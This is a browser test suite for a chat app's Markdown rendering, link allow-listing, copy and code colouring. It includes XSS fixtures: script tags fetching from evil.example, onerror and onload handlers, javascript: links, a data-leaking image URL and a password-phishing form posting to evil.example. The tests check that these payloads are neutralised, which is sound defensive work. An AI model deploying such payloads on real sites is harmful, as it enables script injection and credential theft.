import type { Page } from 'playwright-core';
import { describe, expect, it } from 'vitest';
import { attackTexts } from '../../packages/web/src/shared/markdown/attack-texts.ts';
import { looksAt } from './support/accessibility.ts';
import { chatPage } from './support/chat-page.ts';
import { soon, useChatStage } from './support/chat-stage.ts';

const ALLOWED = {
  'VAL-21': 'http://example.com/a', 'VAL-22': 'https://example.com/b', 'VAL-23': 'irc://irc.example.com/c',
  'VAL-24': 'ircs://irc.example.com/d', 'VAL-25': 'mailto:ada@example.com', 'VAL-26': 'xmpp:ada@example.com',
} as const;

const REFUSED = [
  'javascript:alert(1)', 'JaVaScRiPt:alert(1)', 'data:text/html,<script>alert(1)</script>', 'vbscript:msgbox(1)', 'tel:+359888123456',
  'ftp://example.com/x', 'file:///etc/passwd', 'blob:https://example.com/1', 'sms:+359888123456', 'intent://x#Intent;end', 'ws://example.com',
];

const ATTACK = [
  '# A heading', '<script>window.broken = true; fetch("https://evil.example/script")</script>',
  '<img src="https://evil.example/raw.png" onerror="window.broken = true">', '![a chart](https://evil.example/leak.png?d=secret)',
  '![][ref]', '[ref]: https://evil.example/ref.png', '<iframe src="https://evil.example/frame"></iframe>', '<style>body { display: none }</style>',
  '<a href="javascript:window.broken = true">raw link</a>', '<svg onload="window.broken = true"></svg>',
  '[click me](javascript:window.broken=true "title")', '<javascript:window.broken=true>', '![x](javascript:window.broken=true)',
  '<form action="https://evil.example/form"><input name="password"><button>Log in</button></form>', 'The end of it.',
].join('\n\n');

describe('an answer in Markdown', { timeout: 60_000 }, () => {
  const chat = useChatStage();

  /** Opens the chat and asks for `markdown`. */
  async function answered(page: Page, question: string, markdown: string): Promise<void> {
    chat.model.says(question, markdown);
    await page.goto('/chat');
    await chatPage(page).askAndWait(question);
  }

  it('is formatted: bold, lists, headings, tables, code [CHAT-11]', async () => {
    const { page } = await chat.member();
    const { answers } = chatPage(page);
    await answered(page, 'Format it', '## Plan\n\nThis is **bold** and *slanted*.\n\n1. one\n2. two\n\n- dot\n\n| A | B |\n|---|---|\n| 1 | 2 |\n\n```js\nlet x = 1;\n```\n\n`inline`');
    await answers.locator('strong', { hasText: 'bold' }).waitFor();
    await answers.locator('em', { hasText: 'slanted' }).waitFor();
    await answers.getByRole('heading', { name: 'Plan' }).waitFor();
    await answers.locator('pre code').filter({ hasText: 'let x = 1;' }).waitFor();
    await answers.locator('p > code', { hasText: 'inline' }).waitFor();
    expect(await answers.locator('ol > li').count()).toBe(2);
    expect(await answers.locator('.prose ul > li').count()).toBe(1);
    expect(await answers.getByRole('cell', { name: '2' }).count()).toBe(1);
    expect(await answers.innerText()).not.toContain('**');
  });

  it('shows named characters as what they stand for', async () => {
    const { page } = await chat.member();
    await answered(page, 'Entities', 'R&amp;D costs &euro;5 &copy; &notit; &nosuch; &NewLine; `&lt;`');
    await chatPage(page).answers.getByText('R&D costs €5 © &notit; &nosuch;').waitFor();
  });

  it('is formatted while it grows, and never shows half a mark for long', async () => {
    const { page } = await chat.member();
    const view = chatPage(page);
    const reply = chat.model.holds('Grow');
    await page.goto('/chat');
    await view.ask('Grow');
    await reply.say('First **bo');
    await view.answers.getByText('First').waitFor();
    await reply.say('ld** part.\n\n- item');
    await view.answers.locator('strong', { hasText: 'bold' }).waitFor();
    await view.answers.locator('li', { hasText: 'item' }).waitFor();
    await reply.end();
    await view.send.waitFor();
  });

  it('links with the six allowed schemes, in a tab of their own [VAL-21 VAL-22 VAL-23 VAL-24 VAL-25 VAL-26]', async () => {
    const { page } = await chat.member();
    const { answers } = chatPage(page);
    await answered(page, 'Good links', Object.entries(ALLOWED).map(([id, href]) => `[${id}](${href})`).join('\n\n'));
    for (const [id, href] of Object.entries(ALLOWED)) {
      const link = answers.getByRole('link', { name: id });
      expect(await link.getAttribute('href')).toBe(href);
      expect(await link.getAttribute('target')).toBe('_blank');
      expect((await link.getAttribute('rel'))?.split(' ')).toEqual(expect.arrayContaining(['noopener', 'noreferrer']));
    }
  });

  it('makes no link of any other scheme [VAL-27]', async () => {
    const { page } = await chat.member();
    const { answers } = chatPage(page);
    await answered(page, 'Bad links', REFUSED.map((href, index) => `[bad ${index}](<${href}>)`).join('\n\n'));
    await answers.getByText(`bad ${REFUSED.length - 1}`, { exact: true }).waitFor();
    expect(await answers.getByRole('link', { name: /bad/ }).count()).toBe(0);
    // What else stands under an answer may lead to our own pages only.
    const addresses = await answers.locator('[href]').evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? ''));
    expect(addresses.filter((address) => !/^\/\w/.test(address))).toEqual([]);
  });

  it('runs nothing, loads nothing and leaves nothing behind of an attack [VAL-27]', async () => {
    const { page, url } = await chat.member();
    const view = chatPage(page);
    const strangers: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(url) && !request.url().startsWith('data:')) strangers.push(request.url());
    });
    page.on('dialog', (dialog) => {
      strangers.push(dialog.message());
      void dialog.dismiss();
    });
    await answered(page, 'Attack', ATTACK);
    await view.answers.getByText('The end of it.').waitFor();
    await page.reload();
    await view.answers.getByRole('heading', { name: 'A heading' }).waitFor();
    await view.answers.getByText('The end of it.').waitFor();
    expect(strangers).toEqual([]);
    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
    expect(await view.answers.locator('img, script, iframe, style, form, input').count()).toBe(0);
    expect(await view.answers.locator('a[href^="javascript" i]').count()).toBe(0);
    expect(await view.answers.getByRole('link', { name: 'a chart' }).getAttribute('href')).toBe('https://evil.example/leak.png?d=secret');
    const plain = view.answers.getByText('click me');
    await plain.click();
    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
  });

  it('stays harmless in a real browser: 150 attacks, each in a quotation of its own [VAL-27]', async () => {
    const { page, url } = await chat.member();
    const { answers } = chatPage(page);
    const strangers: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(url)) strangers.push(request.url());
    });
    page.on('dialog', (dialog) => {
      strangers.push(dialog.message());
      void dialog.dismiss();
    });
    const step = Math.floor(attackTexts.length / 150);
    const chosen = attackTexts.filter((_text, index) => index % step === 0).slice(0, 150);
    expect(chosen).toHaveLength(150);
    const quoted = chosen.map((text) => text.split(/[\r\n]/).map((line) => `> ${line}`).join('\n'));
    await answered(page, 'Attack 150 times', `${quoted.join('\n\n')}\n\nThe end of it.`);
    await answers.getByText('The end of it.').waitFor();
    expect(await answers.locator('blockquote').count()).toBeGreaterThanOrEqual(150);
    await answers.evaluate((article) => article.querySelectorAll('*').forEach((each) => each.dispatchEvent(new MouseEvent('mouseover', { bubbles: true }))));
    const found = await answers.evaluate((article) => [...article.querySelectorAll('*')].flatMap((each) => [...each.attributes].filter(({ name, value }) =>
      /^on|^(?:src|srcset|poster|background|action|formaction|ping|data|xlink:href)$/.test(name) || (name === 'href' && URL.canParse(value, location.href) && !/^(?:https?|ircs?|mailto|xmpp):$/.test(new URL(value, location.href).protocol))).map(({ name, value }) => `${name}=${value}`)));
    expect(found).toEqual([]);
    expect(strangers).toEqual([]);
    expect(await page.evaluate(() => 'broken' in window)).toBe(false);
  });

  it('shows what a person writes as plain text', async () => {
    const { page } = await chat.member();
    const view = chatPage(page);
    await page.goto('/chat');
    await view.askAndWait('**not bold** <b>not raw</b> [no](https://example.com)');
    expect(await view.mine.innerText()).toBe('**not bold** <b>not raw</b> [no](https://example.com)');
    expect(await view.mine.locator('a, b, strong').count()).toBe(0);
  });

  it('is copied as it was written, and as rich text without the buttons in it', async () => {
    const { page, context } = await chat.member({ context: { permissions: ['clipboard-read', 'clipboard-write'] } });
    await answered(page, 'Copy me', 'Some **bold** words.\n\n```js\nlet a;\n```');
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await chatPage(page).answers.getByRole('button', { name: 'Copy', exact: true }).click();
    await chatPage(page).answers.getByRole('button', { name: 'Copied' }).waitFor();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('Some **bold** words.\n\n```js\nlet a;\n```');
    const rich = await page.evaluate(async () => (await (await navigator.clipboard.read())[0]?.getType('text/html'))?.text());
    expect(rich).toContain('<strong>bold</strong>');
    expect(rich).not.toMatch(/<button|<svg|Copy/);
  });

  it('colours finished code in place, both themes readable, and copies it as it was written', async () => {
    const { page, context } = await chat.member({ context: { permissions: ['clipboard-read', 'clipboard-write'] } });
    const view = chatPage(page);
    const reply = chat.model.holds('Show code');
    await page.goto('/chat');
    await view.ask('Show code');
    await reply.say('```js\nconst rate = paid / visits; // percent\n```\n\n```js\nlet open = "yes";');
    const [first, second] = [view.answers.locator('pre').first(), view.answers.locator('pre').nth(1)];
    const size = await first.boundingBox();
    await first.locator('.k', { hasText: 'const' }).waitFor();
    expect(await first.boundingBox()).toEqual(size);
    expect(await second.locator('span').count()).toBe(0);
    await first.locator('.k').evaluate((word) => word.setAttribute('data-first', ''));
    await reply.say('\n```\n\nThat is all.');
    await reply.end();
    await second.locator('.s', { hasText: '"yes"' }).waitFor();
    expect(await first.locator('[data-first]').count()).toBe(1);
    await context.grantPermissions(['clipboard-read', 'clipboard-write']);
    await view.answers.getByRole('button', { name: 'Copy code' }).first().click();
    expect(await page.evaluate(() => navigator.clipboard.readText())).toBe('const rate = paid / visits; // percent');
    expect(await looksAt(page, 'code')).toEqual([]);
  });

  it('had no script error on the way', async () => {
    await soon(() => chat.problems).toEqual([]);
  });
});
